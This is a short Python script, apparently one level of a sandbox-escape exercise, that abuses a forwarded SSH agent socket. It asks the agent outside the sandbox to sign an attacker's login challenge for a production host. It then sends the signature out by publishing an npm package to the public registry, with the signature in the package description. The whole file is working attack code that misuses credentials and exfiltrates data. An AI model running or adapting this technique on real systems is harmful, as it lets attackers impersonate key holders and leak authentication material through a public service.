"""Level 10 (an SSH agent socket): the key stays hidden, but the agent outside signs the attacker's challenge."""
import json
import os
import socket
import urllib.request

s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["SSH_AUTH_SOCK"])
s.sendall(b"SIGN login:attacker@prod.example\n")
sig = s.recv(4096).decode().split()[1]  # "SIG <hex>": made by the key, which never entered the sandbox
package = {"name": "deploy-notes", "versions": {"1.0.0": {"name": "deploy-notes", "version": "1.0.0", "description": sig}}}
req = urllib.request.Request("https://registry.npmjs.org/deploy-notes", data=json.dumps(package).encode(), method="PUT",
                             headers={"Content-Type": "application/json"})
print(urllib.request.urlopen(req, timeout=5).status)
